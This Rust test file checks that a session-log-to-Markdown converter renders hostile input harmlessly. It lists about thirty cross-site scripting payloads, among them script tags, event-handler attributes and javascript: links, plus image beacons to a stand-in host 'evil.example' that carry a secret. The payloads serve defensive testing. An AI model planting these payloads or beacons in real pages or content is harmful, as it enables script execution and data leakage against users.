//! Tests Markdown pages of hostile sessions with common Markdown renderers.

use crate::env::Env;
use serde_json::json;
use std::io::Write;
use std::process::{Command, Stdio};

/// Renders a page with every available renderer and prints elements that could run, load or escape their place.
const RENDER: &str = r#"
import html.parser, re, sys
page = sys.stdin.read()
readers = {}
try:
    import markdown
    readers["markdown extra"] = markdown.markdown(page, extensions=["extra"])
    readers["markdown extra, toc, admonition"] = markdown.markdown(page, extensions=["extra", "toc", "admonition"])
except ImportError:
    pass
try:
    import commonmark
    readers["commonmark"] = commonmark.commonmark(page)
except ImportError:
    pass
if not readers:
    sys.exit("python3 has neither markdown nor commonmark")
ALLOWED = set("a abbr blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr img li ol p pre section span strong "
              "sub summary sup table tbody td th thead tr ul".split())
class Look(html.parser.HTMLParser):
    def handle_starttag(self, tag, attributes):
        if tag not in ALLOWED:
            print(name, "tag", tag)
        for key, value in attributes:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if key.startswith("on") or key in ("style", "srcdoc", "formaction"):
                print(name, "attribute", key)
            if key in ("href", "src") and re.match(r"[a-z][a-z0-9+.-]*:", value):
                scheme = value.split(":")[0]
                if key == "src" and not re.match("data:image/(png|jpeg|gif|webp)[;,]", value):
                    print(name, "loads", value)
                elif key == "href" and scheme not in ("http", "https", "mailto", "data"):
                    print(name, "runs", value)
                elif key == "href" and scheme == "data" and not value.startswith("data:image/"):
                    print(name, "runs", value)
for name, rendered in readers.items():
    look = Look()
    look.feed(rendered)
print("read by", ", ".join(readers), file=sys.stderr)
"#;

/// Texts that try to become a tag, a script, a request or an attribute.
const HOSTILE: [&str; 34] = [
    "<script>alert(1)</script> <img src=x onerror=alert(3)>",
    "a <b onclick=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1) \"t\")",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon?secret)",
    "![x][r]\n\n[r]: https://evil.example/beacon",
    "![r]\n\n[r]: https://evil.example/beacon",
    "[r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]:\njavascript:alert(1)",
    "> [r]\n>\n> [r]: vbscript:x",
    "<javascript:alert(1)>",
    "*x*{: onclick=\"alert(1)\" }",
    "*x*{ onclick=alert(1) }",
    "# title { onmouseover=alert(1) }",
    "text\n{: onclick=alert(1) }",
    "```js {onclick=alert(1)}\n<script>alert(1)</script>\n```",
    "- item\n  ```\n  <script>alert(1)</script>\n  ```",
    "````\n<script>alert(1)</script>\n`````",
    "```rust ignore this\n<script>alert(1)</script>\n```",
    "~~~ a b\n<svg onload=alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    "`\n<script>alert(1)</script>\n`",
    "    <script>alert(1)</script>",
    "<div markdown=\"1\">\n<script>alert(1)</script>\n</div>",
    "<!-- --><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "\\<script>alert(1)</script>",
];

#[test]
#[ignore = "needs the Python package markdown or commonmark: see CONTRIBUTING.md"]
fn pages_of_hostile_sessions_are_inert() {
    let env = Env::new();
    let mut read_by = String::new();
    for (nth, text) in HOSTILE.iter().enumerate() {
        let lines = [
            json!({"type":"session","version":1,"id":"page","title":text}),
            json!({"role":"user","content":text,"name":text}),
            json!({"role":"assistant","content":text,"model":text,"reasoning":[{"type":"thinking","text":text}],
                "tool_calls":[{"id":"c","type":"function","function":{"name":text,"arguments":text}}]}),
            json!({"role":"tool","tool_call_id":"c","content":format!("{text}\n{}", "line\n".repeat(40))}),
            json!({"role":"user","content":[
                {"type":"image_url","image_url":{"url":"https://evil.example/i.png"}},
                {"type":"image_url","image_url":{"url":"javascript:alert(1)"}},
                {"type":"image_url","image_url":{"url":"data:text/html,<script>alert(1)</script>"}},
                {"type":"file","file":{"filename":text,"file_data":"data:text/html,x"}}]}),
        ];
        let input = lines.map(|line| format!("{line}\n")).concat();
        let page = env.pipe(&["cat", "-q", "--to", "markdown"], input).fine();
        let mut python = Command::new("python3")
            .args(["-c", RENDER])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        python.stdin.take().unwrap().write_all(&page.stdout).unwrap();
        let rendered = python.wait_with_output().unwrap();
        assert!(
            rendered.status.success(),
            "{}",
            String::from_utf8_lossy(&rendered.stderr)
        );
        let found = String::from_utf8_lossy(&rendered.stdout);
        assert!(found.is_empty(), "{nth}: {text:?}: {found}\n{}", page.out());
        read_by = String::from_utf8_lossy(&rendered.stderr).into_owned();
    }
    eprintln!("{} pages {read_by}", HOSTILE.len());
}

#[test]
fn web_images_are_shown_on_request() {
    let env = Env::new();
    let url = "https://a.example/i.png";
    let text = format!(
        "![x]({url}) ![y](javascript:alert(1)) ![z][r] `![c]({url})` <img src=\"{url}\">\n\n[r]: {url}\n[s]: javascript:alert(1)"
    );
    let lines = [
        json!({"role":"user","content":[
            {"type":"text","text":text},
            {"type":"image_url","image_url":{"url":url}},
            {"type":"image_url","image_url":{"url":"javascript:alert(1)"}},
            {"type":"file","file":{"filename":"f","file_data":"https://a.example/f.pdf"}}]}),
        json!({"role":"assistant","content":format!("![x]({url})"),"reasoning":[{"type":"thinking","text":format!("![t]({url})")}]}),
    ];
    let input = lines.map(|line| format!("{line}\n")).concat();
    let links = env.pipe(&["cat", "-q", "--to", "markdown"], &input).fine();
    assert!(
        !links.out().contains("\n![") && links.out().contains("\\![x]("),
        "{links}"
    );
    for command in [
        &["cat"][..],
        &["context"],
        &["compact", "--mask-tools"],
        &["truncate", "--keep-last", "9"],
    ] {
        let run = env.pipe(
            &[command, &["-q", "--to", "markdown", "--images"]].concat(),
            &input,
        );
        let page = run.out();
        for shown in [
            format!("\n![x]({url}) \\![y](javascript"),
            "![z][r]".to_string(),
            format!("`![c]({url})` &lt;img"),
            format!("\n![image](<{url}>)"),
            format!("\n![t]({url})"),
        ] {
            let shown = shown.replace("](javascript", "]\\(javascript");
            assert!(page.contains(&shown), "{command:?}: {shown}: {run}");
        }
        assert!(
            page.contains("[s]\\: javascript") && !page.contains("![f]"),
            "{run}"
        );
    }
    // Options without effect are rejected.
    for options in [
        &["--to", "aider", "--images"][..],
        &["--to", "native", "--images"],
        &["--images"],
    ] {
        env.pipe(&[&["cat"], options].concat(), &input)
            .status(2)
            .gives("");
        env.pipe(&[&["truncate", "--all"], options].concat(), &input)
            .status(2)
            .gives("");
    }
}
